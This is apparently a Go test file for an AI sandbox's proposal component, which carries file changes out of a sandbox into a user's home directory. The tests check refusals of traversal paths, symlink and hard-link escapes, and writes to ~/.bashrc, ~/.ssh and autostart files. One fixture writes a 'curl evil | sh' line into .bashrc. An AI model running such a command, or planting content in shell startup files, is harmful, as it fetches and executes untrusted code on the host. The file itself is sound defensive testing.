package proposal

import (
	"archive/tar"
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/mcp-sandbox/mcp-sandbox/sandbox/config"
	"github.com/mcp-sandbox/mcp-sandbox/sandbox/filebackup"
	"github.com/mcp-sandbox/mcp-sandbox/sandbox/hostfs"
)

// ent is one entry of a test archive.
type ent struct {
	name, body, link string
	typ              byte
	size             int64 // header size when it differs from body
}

func tarOf(t testing.TB, es ...ent) *bytes.Reader {
	t.Helper()
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	for _, e := range es {
		h := &tar.Header{Name: e.name, Typeflag: e.typ, Mode: 0o644, Linkname: e.link, Size: int64(len(e.body))}
		if e.typ == 0 {
			h.Typeflag = tar.TypeReg
		}
		if h.Typeflag != tar.TypeReg {
			h.Size = 0
		}
		if e.size > 0 {
			h.Size = e.size
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if h.Typeflag == tar.TypeReg && e.size == 0 {
			tw.Write([]byte(e.body))
		}
	}
	if err := tw.Close(); err != nil && !strings.Contains(err.Error(), "missed writing") {
		t.Fatal(err)
	}
	return bytes.NewReader(b.Bytes())
}

// world is a home directory with a project, and the policy for it.
type world struct {
	home, outside, state string
	req                  Request
	opts                 ApplyOptions
}

func newWorld(t *testing.T) *world {
	t.Helper()
	base := t.TempDir()
	base, _ = filepath.EvalSymlinks(base)
	w := &world{home: filepath.Join(base, "home"), outside: filepath.Join(base, "outside"), state: filepath.Join(base, "state")}
	write(t, w.home, "proj/a.py", "def add(a, b):\n    return a - b\n")
	write(t, w.home, "proj/b.txt", "untouched\n")
	write(t, w.home, ".bashrc", "export A=1\n")
	write(t, w.outside, "secret.txt", "outside\n")
	f := hostfs.Fence{ReadRoots: []string{"~"}, Home: w.home, Deny: []string{"~/.ssh"}, WriteDeny: []string{"~/.bashrc", "~/.ssh"}, WriteRoot: "~/Downloads"}
	w.req = Request{SandboxID: "sb", HostPath: "~/proj", Fence: f, ApplyRoots: []string{"~"}}
	w.opts = ApplyOptions{Fence: f, ApplyRoots: []string{"~"}, BackupDir: BackupDir(w.state)}
	return w
}

func write(t testing.TB, dir, rel, body string) {
	t.Helper()
	p := filepath.Join(dir, filepath.FromSlash(rel))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
}

func read(t testing.TB, p string) string {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		return "<" + err.Error() + ">"
	}
	return string(b)
}

// project is the sandbox's copy of ~/proj with a.py fixed and c.py added.
func project(t testing.TB, extra ...ent) *bytes.Reader {
	es := []ent{
		{name: "proj/", typ: tar.TypeDir},
		{name: "proj/a.py", body: "def add(a, b):\n    return a + b\n"},
		{name: "proj/b.txt", body: "untouched\n"},
		{name: "proj/new/", typ: tar.TypeDir},
		{name: "proj/new/c.py", body: "print(1)\n"},
	}
	return tarOf(t, append(es, extra...)...)
}

func files(r Result) []FileResult { return r.Files }

func TestBuildAndApply(t *testing.T) {
	w := newWorld(t)
	ctx := context.Background()
	p, err := Build(ctx, project(t), w.req)
	if err != nil {
		t.Fatal(err)
	}
	proj := filepath.Join(w.home, "proj")
	want := []FileResult{
		{HostPath: filepath.Join(proj, "a.py"), Change: Modified, Added: 1, Removed: 1},
		{HostPath: filepath.Join(proj, "new", "c.py"), Change: Added, Added: 1},
	}
	if d := cmp.Diff(want, files(p.Result(StatusPending))); d != "" {
		t.Fatalf("files (-want +got):\n%s", d)
	}
	if !strings.Contains(p.Files[0].Diff, "-    return a - b\n+    return a + b\n") {
		t.Errorf("diff of a.py:\n%s", p.Files[0].Diff)
	}
	if read(t, filepath.Join(proj, "a.py")) != "def add(a, b):\n    return a - b\n" {
		t.Fatal("Build wrote to the host")
	}
	r, err := Apply(ctx, p, w.opts)
	if err != nil {
		t.Fatal(err)
	}
	if r.Status != StatusApplied || len(r.Backups) != 1 {
		t.Fatalf("result: %+v", r)
	}
	for rel, body := range map[string]string{"a.py": "def add(a, b):\n    return a + b\n", "new/c.py": "print(1)\n", "b.txt": "untouched\n"} {
		if got := read(t, filepath.Join(proj, rel)); got != body {
			t.Errorf("%s: %q, want %q", rel, got, body)
		}
	}
	if got := read(t, r.Backups[0]); got != "def add(a, b):\n    return a - b\n" || !strings.HasPrefix(r.Backups[0], w.opts.BackupDir) {
		t.Errorf("backup %s: %q", r.Backups[0], got)
	}
	if filebackup.Latest(filepath.Join(w.opts.BackupDir, p.ID, "a.py")) != r.Backups[0] {
		t.Errorf("backup not named as filebackup names them: %s", r.Backups[0])
	}
}

func TestApplyStale(t *testing.T) {
	w := newWorld(t)
	ctx := context.Background()
	p, err := Build(ctx, project(t), w.req)
	if err != nil {
		t.Fatal(err)
	}
	write(t, w.home, "proj/a.py", "edited by the person meanwhile\n")
	r, err := Apply(ctx, p, w.opts)
	if !errors.Is(err, ErrStale) || r.Status != StatusStale {
		t.Fatalf("Apply after a host change: %+v, %v", r, err)
	}
	if _, err := os.Stat(filepath.Join(w.home, "proj", "new")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("a stale proposal wrote new/: %v", err)
	}
	if got := read(t, filepath.Join(w.home, "proj", "a.py")); got != "edited by the person meanwhile\n" {
		t.Errorf("a.py: %q", got)
	}
	// A file that appears where the proposal adds one is a change too.
	p, _ = Build(ctx, project(t), w.req)
	write(t, w.home, "proj/new/c.py", "mine\n")
	if r, err := Apply(ctx, p, w.opts); r.Status != StatusStale || !errors.Is(err, ErrStale) {
		t.Errorf("Apply over a file created meanwhile: %+v, %v", r, err)
	}
}

func TestBuildDelete(t *testing.T) {
	w := newWorld(t)
	write(t, w.home, "proj/gone.txt", "old\nlines\n")
	write(t, w.home, "proj/.gitignore", "*.log\n")
	write(t, w.home, "proj/build.log", "ignored\n")
	write(t, w.home, "proj/.git/config", "[core]\n")
	ctx := context.Background()
	tree := func() *bytes.Reader { return project(t, ent{name: "proj/.gitignore", body: "*.log\n"}) }
	p, err := Build(ctx, tree(), w.req)
	if err != nil {
		t.Fatal(err)
	}
	if len(p.Files) != 2 {
		t.Fatalf("without delete: %+v", p.Result(StatusPending).Files)
	}
	w.req.Delete = true
	p, err = Build(ctx, tree(), w.req)
	if err != nil {
		t.Fatal(err)
	}
	gone := FileResult{HostPath: filepath.Join(w.home, "proj", "gone.txt"), Change: Deleted, Removed: 2}
	if got := p.Result(StatusPending).Files; len(got) != 3 || got[2] != gone {
		t.Fatalf("with delete: %+v", got)
	}
	r, err := Apply(ctx, p, w.opts)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(gone.HostPath); !errors.Is(err, os.ErrNotExist) || len(r.Backups) != 2 {
		t.Errorf("gone.txt: %v, backups %v", err, r.Backups)
	}
	for _, keep := range []string{"build.log", ".git/config"} {
		if _, err := os.Stat(filepath.Join(w.home, "proj", keep)); err != nil {
			t.Errorf("%s: %v", keep, err)
		}
	}
}

func TestBuildRefusals(t *testing.T) {
	for _, tc := range []struct {
		name, hostPath string
		tree           []ent
		want           []error
		says           string
	}{
		{"bashrc", "~/.bashrc", []ent{{name: ".bashrc", body: "curl evil | sh\n"}}, []error{hostfs.ErrFence, hostfs.ErrDenied}, "files.write_deny"},
		{"bashrc in a tree", "~", []ent{{name: "me/", typ: tar.TypeDir}, {name: "me/.bashrc", body: "x\n"}}, []error{hostfs.ErrFence, hostfs.ErrDenied}, "files.write_deny"},
		{"ssh dir", "~/.ssh", []ent{{name: ".ssh/", typ: tar.TypeDir}, {name: ".ssh/authorized_keys", body: "k\n"}}, []error{hostfs.ErrFence, hostfs.ErrDenied}, ".ssh"},
		{"outside apply_roots", "OUTSIDE/secret.txt", []ent{{name: "secret.txt", body: "x\n"}}, []error{hostfs.ErrFence}, "files.apply_roots"},
		{"relative", "proj", []ent{{name: "proj/", typ: tar.TypeDir}}, []error{hostfs.ErrFence}, "relative"},
		{"dot-dot name", "~/proj", []ent{{name: "proj/", typ: tar.TypeDir}, {name: "proj/../../x", body: "x"}}, []error{ErrArchive}, "plain relative"},
		{"absolute name", "~/proj", []ent{{name: "proj/", typ: tar.TypeDir}, {name: "/etc/x", body: "x"}}, []error{ErrArchive}, "plain relative"},
		{"second top", "~/proj", []ent{{name: "proj/", typ: tar.TypeDir}, {name: "other/x", body: "x"}}, []error{ErrArchive}, "outside proj"},
		{"newline name", "~/proj", []ent{{name: "proj/", typ: tar.TypeDir}, {name: "proj/a\nb", body: "x"}}, []error{ErrArchive}, "control"},
		{"tree onto a file", "~/proj/a.py", []ent{{name: "a.py/", typ: tar.TypeDir}}, []error{hostfs.ErrFence}, "not a directory"},
		{"file onto a tree", "~/proj", []ent{{name: "proj", body: "x"}}, []error{hostfs.ErrFence}, "not a regular file"},
		{"huge file", "~/proj", []ent{{name: "proj/", typ: tar.TypeDir}, {name: "proj/big", size: 9 << 20}}, []error{ErrTooBig}, "copy_out"},
		{"empty", "~/proj", nil, []error{ErrArchive}, "empty"},
		{"file and directory", "~/proj", []ent{{name: "proj/", typ: tar.TypeDir}, {name: "proj/a", body: "x"}, {name: "proj/a/b", body: "y"}}, []error{ErrArchive}, "a file and a directory"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := newWorld(t)
			w.req.HostPath = strings.Replace(tc.hostPath, "OUTSIDE", w.outside, 1)
			_, err := Build(context.Background(), tarOf(t, tc.tree...), w.req)
			for _, want := range tc.want {
				if !errors.Is(err, want) {
					t.Errorf("error %v is not %v", err, want)
				}
			}
			if err != nil && !strings.Contains(err.Error(), tc.says) {
				t.Errorf("error %q does not say %q", err, tc.says)
			}
			if got := read(t, filepath.Join(w.home, ".bashrc")); got != "export A=1\n" {
				t.Errorf(".bashrc: %q", got)
			}
		})
	}
}

func TestBuildLimits(t *testing.T) {
	w := newWorld(t)
	w.req.Limits = Limits{MaxFiles: 10, MaxBytes: 100, MaxFileBytes: 60}
	many := []ent{{name: "proj/", typ: tar.TypeDir}}
	for i := range 11 {
		many = append(many, ent{name: "proj/f" + string(rune('a'+i)), body: "x"})
	}
	if _, err := Build(context.Background(), tarOf(t, many...), w.req); !errors.Is(err, ErrTooBig) {
		t.Errorf("11 entries: %v", err)
	}
	total := []ent{{name: "proj/", typ: tar.TypeDir}, {name: "proj/a", body: strings.Repeat("a", 50)}, {name: "proj/b", body: strings.Repeat("b", 51)}}
	if _, err := Build(context.Background(), tarOf(t, total...), w.req); !errors.Is(err, ErrTooBig) {
		t.Errorf("101 bytes: %v", err)
	}
}

// TestBuildSandboxLinksAndSpecials: the sandbox's symlinks, hard links,
// devices and FIFOs are reported and never proposed.
func TestBuildSandboxLinksAndSpecials(t *testing.T) {
	w := newWorld(t)
	p, err := Build(context.Background(), project(t,
		ent{name: "proj/up", typ: tar.TypeSymlink, link: "../../.bashrc"},
		ent{name: "proj/hard", typ: tar.TypeLink, link: "proj/a.py"},
		ent{name: "proj/dev", typ: tar.TypeChar},
		ent{name: "proj/fifo", typ: tar.TypeFifo},
	), w.req)
	if err != nil {
		t.Fatal(err)
	}
	if len(p.Files) != 2 || len(p.Skipped) != 4 || !strings.Contains(p.Skipped[0].Reason, "symlink to ../../.bashrc") {
		t.Fatalf("files %+v, skipped %+v", p.Result(StatusPending).Files, p.Skipped)
	}
	if _, err := Apply(context.Background(), p, w.opts); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"up", "hard", "dev", "fifo"} {
		if _, err := os.Lstat(filepath.Join(w.home, "proj", name)); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("%s made on the host: %v", name, err)
		}
	}
}

// TestHostSymlinksNeverFollowed: a host symlink inside host_path that
// points outside is skipped, whether a file or a directory, and what it
// points to is never read nor written.
func TestHostSymlinksNeverFollowed(t *testing.T) {
	w := newWorld(t)
	proj := filepath.Join(w.home, "proj")
	os.Symlink(w.outside, filepath.Join(proj, "dirlink"))
	os.Symlink(filepath.Join(w.outside, "secret.txt"), filepath.Join(proj, "filelink"))
	p, err := Build(context.Background(), project(t,
		ent{name: "proj/dirlink/", typ: tar.TypeDir},
		ent{name: "proj/dirlink/secret.txt", body: "overwritten\n"},
		ent{name: "proj/dirlink/new.txt", body: "planted\n"},
		ent{name: "proj/filelink", body: "overwritten\n"},
	), w.req)
	if err != nil {
		t.Fatal(err)
	}
	if len(p.Files) != 2 || len(p.Skipped) != 3 {
		t.Fatalf("files %+v, skipped %+v", p.Result(StatusPending).Files, p.Skipped)
	}
	for _, f := range p.Files {
		if strings.Contains(f.Diff, "outside") {
			t.Errorf("the proposal shows what a host link points to: %s", f.Diff)
		}
	}
	if _, err := Apply(context.Background(), p, w.opts); err != nil {
		t.Fatal(err)
	}
	if got := read(t, filepath.Join(w.outside, "secret.txt")); got != "outside\n" {
		t.Errorf("secret.txt: %q", got)
	}
	if _, err := os.Stat(filepath.Join(w.outside, "new.txt")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("new.txt planted outside: %v", err)
	}
	if fi, err := os.Lstat(filepath.Join(proj, "filelink")); err != nil || fi.Mode()&os.ModeSymlink == 0 {
		t.Errorf("filelink replaced: %v", err)
	}
}

// TestApplySwappedForLink: a directory of host_path swapped for a link
// to outside between Build and Apply is not written through.
func TestApplySwappedForLink(t *testing.T) {
	w := newWorld(t)
	write(t, w.home, "proj/new/keep.txt", "k\n")
	p, err := Build(context.Background(), project(t), w.req)
	if err != nil {
		t.Fatal(err)
	}
	os.RemoveAll(filepath.Join(w.home, "proj", "new"))
	os.Symlink(w.outside, filepath.Join(w.home, "proj", "new"))
	r, err := Apply(context.Background(), p, w.opts)
	if err == nil || r.Status == StatusApplied {
		t.Fatalf("Apply through a swapped directory: %+v", r)
	}
	if _, err := os.Stat(filepath.Join(w.outside, "c.py")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("c.py written outside: %v", err)
	}
}

func TestBuildSingleFileAndNewTree(t *testing.T) {
	w := newWorld(t)
	w.req.HostPath = "~/proj/a.py"
	p, err := Build(context.Background(), tarOf(t, ent{name: "a.py", body: "x = 1\n"}), w.req)
	if err != nil {
		t.Fatal(err)
	}
	if r, err := Apply(context.Background(), p, w.opts); err != nil || r.Status != StatusApplied || read(t, filepath.Join(w.home, "proj", "a.py")) != "x = 1\n" {
		t.Fatalf("single file: %+v %v", r, err)
	}
	w.req.HostPath = "~/fresh"
	p, err = Build(context.Background(), project(t), w.req)
	if err != nil {
		t.Fatal(err)
	}
	if len(p.Files) != 3 {
		t.Fatalf("a new tree: %+v", p.Result(StatusPending).Files)
	}
	if _, err := Apply(context.Background(), p, w.opts); err != nil || read(t, filepath.Join(w.home, "fresh", "new", "c.py")) != "print(1)\n" {
		t.Fatalf("new tree: %v", err)
	}
	if fi, _ := os.Stat(filepath.Join(w.home, "fresh", "a.py")); fi.Mode().Perm() != 0o644 {
		t.Errorf("mode of a new file: %v", fi.Mode())
	}
}

// TestRefusedByIdentity: another name of a protected file (a symlink to
// it as host_path, a hard link inside the project) is refused as the file
// itself is.
func TestRefusedByIdentity(t *testing.T) {
	w := newWorld(t)
	write(t, w.home, ".ssh/id", "key\n")
	os.Symlink(filepath.Join(w.home, ".bashrc"), filepath.Join(w.home, "rc"))
	w.req.HostPath = "~/rc"
	if _, err := Build(context.Background(), tarOf(t, ent{name: "rc", body: "x\n"}), w.req); !errors.Is(err, hostfs.ErrDenied) {
		t.Errorf("a symlink to .bashrc as host_path: %v", err)
	}
	w.req.HostPath = "~/proj/../.bashrc"
	if _, err := Build(context.Background(), tarOf(t, ent{name: ".bashrc", body: "x\n"}), w.req); !errors.Is(err, hostfs.ErrDenied) {
		t.Errorf("~/proj/../.bashrc: %v", err)
	}
	if err := os.Link(filepath.Join(w.home, ".ssh", "id"), filepath.Join(w.home, "proj", "hard")); err != nil {
		t.Skip("no hard links here:", err)
	}
	w.req.HostPath = "~/proj"
	_, err := Build(context.Background(), project(t, ent{name: "proj/hard", body: "planted\n"}), w.req)
	if !errors.Is(err, hostfs.ErrDenied) {
		t.Errorf("a hard link to ~/.ssh/id: %v", err)
	}
	if got := read(t, filepath.Join(w.home, ".ssh", "id")); got != "key\n" {
		t.Errorf("~/.ssh/id: %q", got)
	}
}

func TestCaseCollision(t *testing.T) {
	if !foldsCase {
		foldsCase = true
		t.Cleanup(func() { foldsCase = false })
	}
	w := newWorld(t)
	_, err := Build(context.Background(), project(t, ent{name: "proj/A.py", body: "x\n"}, ent{name: "proj/a.PY", body: "y\n"}), w.req)
	if !errors.Is(err, ErrArchive) || !strings.Contains(err.Error(), "only in case") {
		t.Errorf("names differing in case: %v", err)
	}
}

// TestBuiltInWriteDeny: with the built-in write_deny (as the server
// passes it), start-up files, autostart and PATH directories are refused.
func TestBuiltInWriteDeny(t *testing.T) {
	w := newWorld(t)
	t.Setenv("PATH", filepath.Join(w.home, "tools"))
	write(t, w.home, "tools/x", "#!/bin/sh\n")
	write(t, w.home, ".config/autostart/a.desktop", "[Desktop Entry]\n")
	w.req.Fence.WriteDeny = config.DefaultWriteDeny()
	for _, hp := range []string{"~/tools/x", "~/.config/autostart/a.desktop", "~/.profile", "~/.zshrc"} {
		w.req.HostPath = hp
		_, err := Build(context.Background(), tarOf(t, ent{name: filepath.Base(hp), body: "evil\n"}), w.req)
		if !errors.Is(err, hostfs.ErrDenied) || !strings.Contains(err.Error(), "files.write_deny") {
			t.Errorf("%s: %v", hp, err)
		}
	}
}

// TestApplyUnderTodaysPolicy: Apply checks the policy in force when the
// person says yes, not the one the proposal was built under.
func TestApplyUnderTodaysPolicy(t *testing.T) {
	w := newWorld(t)
	p, err := Build(context.Background(), project(t), w.req)
	if err != nil {
		t.Fatal(err)
	}
	w.opts.ApplyRoots = []string{"~/elsewhere"}
	if _, err := Apply(context.Background(), p, w.opts); !errors.Is(err, hostfs.ErrFence) || !strings.Contains(err.Error(), "files.apply_roots") {
		t.Errorf("Apply outside today's apply_roots: %v", err)
	}
	if _, err := os.Stat(filepath.Join(w.home, "proj", "new")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("written anyway: %v", err)
	}
}
